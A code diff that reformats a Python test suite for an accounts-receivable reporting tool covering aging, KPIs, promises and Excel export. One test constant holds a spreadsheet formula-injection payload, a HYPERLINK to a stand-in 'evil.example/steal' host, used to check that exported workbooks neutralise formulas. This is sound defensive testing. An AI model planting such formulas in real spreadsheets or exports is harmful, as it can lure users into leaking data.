@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import io
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 from decimal import Decimal
 
 import openpyxl
@@ -34,15 +34,25 @@ EVIL = '=HYPERLINK("http://evil.example/steal","click")'
 
 
 def ledger() -> pl.DataFrame:
-    return items_frame([
-        item(doc_no="A", amount="100.00", due_date=date(2026, 11, 25)),
-        item(doc_no="B", amount="250.00", due_date=date(2026, 11, 19), customer_name=EVIL),
-        item(doc_no="C", amount="-40.00", due_date=date(2026, 10, 1), collector="e.dubois", customer_id="2"),
-        item(doc_no="D", amount="500.00", due_date=date(2026, 8, 1), collector="e.dubois", customer_id="2",
-             currency="CHF"),
-        item(doc_no="E", amount="70.00", due_date=date(2026, 10, 1), clearing_date=date(2026, 11, 10)),
-        item(doc_no="F", amount="30.00", due_date=date(2026, 11, 17), collector=None, customer_id="3"),
-    ])  # fmt: skip
+    return items_frame(
+        [
+            item(doc_no="A", amount="100.00", due_date=date(2026, 11, 25)),
+            item(doc_no="B", amount="250.00", due_date=date(2026, 11, 19), customer_name=EVIL),
+            item(
+                doc_no="C", amount="-40.00", due_date=date(2026, 10, 1), collector="e.dubois", customer_id="2"
+            ),
+            item(
+                doc_no="D",
+                amount="500.00",
+                due_date=date(2026, 8, 1),
+                collector="e.dubois",
+                customer_id="2",
+                currency="CHF",
+            ),
+            item(doc_no="E", amount="70.00", due_date=date(2026, 10, 1), clearing_date=date(2026, 11, 10)),
+            item(doc_no="F", amount="30.00", due_date=date(2026, 11, 17), collector=None, customer_id="3"),
+        ]
+    )
 
 
 def _none(*_args):
@@ -50,9 +60,20 @@ def _none(*_args):
 
 
 def inputs(items: pl.DataFrame | None = None, **given) -> Inputs:
-    values = {"as_of": AS_OF, "today": AS_OF, "items": ledger() if items is None else items, "reporting": "EUR",
-              "edges": EDGES, "worklist": _none, "promises": _none, "open_cases": _none,
-              "analysis_cases": _none, "kpis": _none, "trend": _none, "write_offs": _none}  # fmt: skip
+    values = {
+        "as_of": AS_OF,
+        "today": AS_OF,
+        "items": ledger() if items is None else items,
+        "reporting": "EUR",
+        "edges": EDGES,
+        "worklist": _none,
+        "promises": _none,
+        "open_cases": _none,
+        "analysis_cases": _none,
+        "kpis": _none,
+        "trend": _none,
+        "write_offs": _none,
+    }
     return Inputs(**{**values, **given})
 
 
@@ -75,8 +96,18 @@ def test_periods_week_month_quarter():
 
 def test_aging_by_collector_per_currency_with_total_rows_and_check_totals():
     sheet = sheet_of("aging", group_by="collector")
-    assert [c.heading for c in sheet.columns] == ["Group", "Currency", "not due", "1-30", "31-60", "61-90",
-                                                  "91-180", "181-360", ">360", "Total"]  # fmt: skip
+    assert [c.heading for c in sheet.columns] == [
+        "Group",
+        "Currency",
+        "not due",
+        "1-30",
+        "31-60",
+        "61-90",
+        "91-180",
+        "181-360",
+        ">360",
+        "Total",
+    ]
     z = D("0.00")
     assert rows(sheet) == [
         ("(none)", "EUR", z, D("30.00"), z, z, z, z, z, D("30.00")),
@@ -93,8 +124,10 @@ def test_the_totals_check_holds_and_fails_when_a_sheet_drops_an_item():
     snapshot = {"EUR": D("340.00"), "CHF": D("500.00")}
     whole = sheet_of("aging", group_by="collector")
     checks = totals_check([whole], snapshot)
-    assert checks.rows() == [("Aging", "CHF", D("500.00"), D("500.00"), D("0.00"), True),
-                             ("Aging", "EUR", D("340.00"), D("340.00"), D("0.00"), True)]  # fmt: skip
+    assert checks.rows() == [
+        ("Aging", "CHF", D("500.00"), D("500.00"), D("0.00"), True),
+        ("Aging", "EUR", D("340.00"), D("340.00"), D("0.00"), True),
+    ]
     assert checks_ok(checks)
     short = sheet_of("aging", inp=inputs(ledger().filter(pl.col("doc_no") != "B")), group_by="collector")
     failed = totals_check([short], snapshot)
@@ -102,8 +135,13 @@ def test_the_totals_check_holds_and_fails_when_a_sheet_drops_an_item():
         ("Aging", "EUR", D("90.00"), D("340.00"), D("-250.00"), False)
     ]
     assert not checks_ok(failed)
-    assert checks_json(failed)[1] == {"name": "Aging", "currency": "EUR", "report_total": "90.00",
-                                      "snapshot_total": "340.00", "difference": "-250.00"}  # fmt: skip
+    assert checks_json(failed)[1] == {
+        "name": "Aging",
+        "currency": "EUR",
+        "report_total": "90.00",
+        "snapshot_total": "340.00",
+        "difference": "-250.00",
+    }
     # a currency the report lacks fails too
     assert not checks_ok(totals_check([whole], {**snapshot, "USD": D("1.00")}))
 
@@ -118,14 +156,21 @@ def test_new_overdue_takes_the_window_of_days():
 
 
 def test_worklist_coverage_counts_the_top_n_of_each_collectors_own_list():
-    work = pl.DataFrame({
-        "rank": [1, 2, 3, 4],
-        "collector": ["c.meyer", "e.dubois", "c.meyer", "c.meyer"],
-        "overdue_amount": [D("100.00"), D("0.00"), D("50.00"), D("20.00")],
-        "days_since_contact": [2, None, 10, 0],
-    }, schema_overrides={"overdue_amount": MONEY})  # fmt: skip
-    sheet = sheet_of("worklist_coverage", kind="daily", inp=inputs(worklist=lambda: work),
-                     thresholds={"top_n": 2, "contact_days": 7})  # fmt: skip
+    work = pl.DataFrame(
+        {
+            "rank": [1, 2, 3, 4],
+            "collector": ["c.meyer", "e.dubois", "c.meyer", "c.meyer"],
+            "overdue_amount": [D("100.00"), D("0.00"), D("50.00"), D("20.00")],
+            "days_since_contact": [2, None, 10, 0],
+        },
+        schema_overrides={"overdue_amount": MONEY},
+    )
+    sheet = sheet_of(
+        "worklist_coverage",
+        kind="daily",
+        inp=inputs(worklist=lambda: work),
+        thresholds={"top_n": 2, "contact_days": 7},
+    )
     assert rows(sheet) == [
         ("c.meyer", 3, 3, 2, 1, D("50.00"), D("170.00"), "EUR"),
         ("e.dubois", 1, 0, 1, 0, D("0.00"), D("0.00"), "EUR"),
@@ -134,48 +179,97 @@ def test_worklist_coverage_counts_the_top_n_of_each_collectors_own_list():
 
 
 def test_promises_due_are_the_open_ones_up_to_today_plus_days_ahead():
-    promises = pl.DataFrame({
-        "promise_id": [1, 2, 3], "customer_id": ["0000100001", "2", "3"],
-        "amount": [D("80.00"), D("60.00"), D("10.00")], "currency": ["EUR"] * 3,
-        "promised_date": [date(2026, 11, 18), date(2026, 11, 21), date(2026, 11, 15)],
-        "status": ["open", "open", "kept"], "created_by": ["c.meyer"] * 3,
-    }, schema_overrides={"amount": MONEY})  # fmt: skip
+    promises = pl.DataFrame(
+        {
+            "promise_id": [1, 2, 3],
+            "customer_id": ["0000100001", "2", "3"],
+            "amount": [D("80.00"), D("60.00"), D("10.00")],
+            "currency": ["EUR"] * 3,
+            "promised_date": [date(2026, 11, 18), date(2026, 11, 21), date(2026, 11, 15)],
+            "status": ["open", "open", "kept"],
+            "created_by": ["c.meyer"] * 3,
+        },
+        schema_overrides={"amount": MONEY},
+    )
     due = sheet_of("promises_due", kind="daily", inp=inputs(promises=lambda: promises))
     assert [(r[0], r[2], r[4], r[5]) for r in rows(due)] == [("0000100001", "c.meyer", -2, D("80.00"))]
-    ahead = sheet_of("promises_due", kind="daily", inp=inputs(promises=lambda: promises),
-                     thresholds={"days_ahead": 1})  # fmt: skip
+    ahead = sheet_of(
+        "promises_due", kind="daily", inp=inputs(promises=lambda: promises), thresholds={"days_ahead": 1}
+    )
     assert [(r[0], r[2], r[4]) for r in rows(ahead)] == [("0000100001", "c.meyer", -2), ("2", "e.dubois", 1)]
 
 
 def kpi_items() -> pl.DataFrame:
-    return items_frame([
-        item(doc_no="X", amount="700.00", doc_date=date(2026, 11, 15), due_date=date(2026, 12, 15)),
-        item(doc_no="Y", amount="300.00", doc_date=date(2026, 10, 1), due_date=date(2026, 10, 31),
-             collector="e.dubois"),
-    ])  # fmt: skip
+    return items_frame(
+        [
+            item(doc_no="X", amount="700.00", doc_date=date(2026, 11, 15), due_date=date(2026, 12, 15)),
+            item(
+                doc_no="Y",
+                amount="300.00",
+                doc_date=date(2026, 10, 1),
+                due_date=date(2026, 10, 31),
+                collector="e.dubois",
+            ),
+        ]
+    )
 
 
 def test_the_kpi_sheet_shows_each_collector_and_the_total_with_inputs():
     items = kpi_items()
     source = lambda by, start, end: kpi_frame(items, start, end, by=by)  # noqa: E731
-    sheet = sheet_of("kpis", inp=inputs(items, kpis=source), group_by="collector",
-                     columns=["group", "start", "days", "ending_ar", "ending_current_ar", "credit_sales",
-                              "dso_simple", "best_possible_dso", "add", "pct_current"])  # fmt: skip
+    sheet = sheet_of(
+        "kpis",
+        inp=inputs(items, kpis=source),
+        group_by="collector",
+        columns=[
+            "group",
+            "start",
+            "days",
+            "ending_ar",
+            "ending_current_ar",
+            "credit_sales",
+            "dso_simple",
+            "best_possible_dso",
+            "add",
+            "pct_current",
+        ],
+    )
     # week 14.-20.11.: ending AR 1,000 (current 700), sales 700 (X); DSO 1000/700*7 = 10, best 7, ADD 3
     assert rows(sheet) == [
-        ("c.meyer", date(2026, 11, 14), 7, D("700.00"), D("700.00"), D("700.00"), D("7.00"), D("7.00"),
-         D("0.00"), D("100.00")),
+        (
+            "c.meyer",
+            date(2026, 11, 14),
+            7,
+            D("700.00"),
+            D("700.00"),
+            D("700.00"),
+            D("7.00"),
+            D("7.00"),
+            D("0.00"),
+            D("100.00"),
+        ),
         ("e.dubois", date(2026, 11, 14), 7, D("300.00"), D("0.00"), D("0.00"), None, None, None, D("0.00")),
-        ("Total", date(2026, 11, 14), 7, D("1000.00"), D("700.00"), D("700.00"), D("10.00"), D("7.00"),
-         D("3.00"), D("70.00")),
-    ]  # fmt: skip
+        (
+            "Total",
+            date(2026, 11, 14),
+            7,
+            D("1000.00"),
+            D("700.00"),
+            D("700.00"),
+            D("10.00"),
+            D("7.00"),
+            D("3.00"),
+            D("70.00"),
+        ),
+    ]
 
 
 def test_the_kpi_definitions_give_value_definition_and_inputs():
     items = kpi_items()
     source = lambda by, start, end: kpi_frame(items, start, end, by=by)  # noqa: E731
-    sheet = sheet_of("kpi_definitions", kind="monthly", inp=inputs(items, kpis=source),
-                     thresholds={"period": "week"})  # fmt: skip
+    sheet = sheet_of(
+        "kpi_definitions", kind="monthly", inp=inputs(items, kpis=source), thresholds={"period": "week"}
+    )
     first = sheet.frame.row(0, named=True)
     assert (first["kpi"], first["value"], first["unit"]) == ("DSO (simple)", D("10.00"), "days")
     assert first["definition"].startswith("Ending total AR ÷ credit sales")
@@ -183,20 +277,30 @@ def test_the_kpi_definitions_give_value_definition_and_inputs():
 
 
 def test_write_offs_say_so_when_there_are_none():
-    empty = pl.DataFrame(schema={"request_id": pl.Int64(), "subject": pl.String(), "amount": MONEY,
-                                 "currency": pl.String(), "reason": pl.String(), "requested_by": pl.String(),
-                                 "decided_by": pl.String(), "decided_at": pl.Datetime("us", "UTC")})  # fmt: skip
+    empty = pl.DataFrame(
+        schema={
+            "request_id": pl.Int64(),
+            "subject": pl.String(),
+            "amount": MONEY,
+            "currency": pl.String(),
+            "reason": pl.String(),
+            "requested_by": pl.String(),
+            "decided_by": pl.String(),
+            "decided_at": pl.Datetime("us", "UTC"),
+        }
+    )
     sheet = sheet_of("write_offs", kind="monthly", inp=inputs(write_offs=lambda: empty))
     assert rows(sheet)[0][1] == "No write-off approved from 01.10.2026 to 31.10.2026."
 
 
 def test_the_workbook_neutralises_formulas_and_formats_money_dates_and_percentages():
     layout = load_layouts(None)["daily"]
-    spec = SheetSpec("new_overdue", "New overdue", ("customer_name", "due_date", "amount"), {}, None,
-                     {"window_days": 1})  # fmt: skip
+    spec = SheetSpec(
+        "new_overdue", "New overdue", ("customer_name", "due_date", "amount"), {}, None, {"window_days": 1}
+    )
     layout_sheets = [build_sheet(spec, inputs(), layout), sheet_of("aging", group_by="currency")]
     checks = totals_check(layout_sheets, {"EUR": D("340.00"), "CHF": D("500.00")})
-    at = datetime(2026, 11, 20, 6, 30, tzinfo=timezone.utc)
+    at = datetime(2026, 11, 20, 6, 30, tzinfo=UTC)
     cover = Cover(layout, AS_OF, AS_OF, 1, "EUR", "lena.lead", at, (AS_OF, AS_OF))
     book = openpyxl.load_workbook(io.BytesIO(report_xlsx(cover, layout_sheets, checks)))
     assert book.sheetnames == ["About", "New overdue", "Aging", "Totals check"]
@@ -213,11 +317,13 @@ def test_the_workbook_neutralises_formulas_and_formats_money_dates_and_percentag
 
 
 def test_percent_cells_are_fractions_formatted_as_percent():
-    work = pl.DataFrame({"rank": [1], "collector": ["c.meyer"], "overdue_amount": [D("5.00")],
-                         "days_since_contact": [1]}, schema_overrides={"overdue_amount": MONEY})  # fmt: skip
+    work = pl.DataFrame(
+        {"rank": [1], "collector": ["c.meyer"], "overdue_amount": [D("5.00")], "days_since_contact": [1]},
+        schema_overrides={"overdue_amount": MONEY},
+    )
     sheet = sheet_of("worklist_coverage", kind="daily", inp=inputs(worklist=lambda: work))
     layout = load_layouts(None)["daily"]
-    cover = Cover(layout, AS_OF, AS_OF, 1, "EUR", "x", datetime(2026, 11, 20, tzinfo=timezone.utc), (AS_OF, AS_OF))
+    cover = Cover(layout, AS_OF, AS_OF, 1, "EUR", "x", datetime(2026, 11, 20, tzinfo=UTC), (AS_OF, AS_OF))
     book = openpyxl.load_workbook(io.BytesIO(report_xlsx(cover, [sheet], totals_check([sheet], {}))))
     cell = book["Worklist coverage"]["F2"]
     assert (cell.value, cell.number_format) == (pytest.approx(1.0), "0.00%")
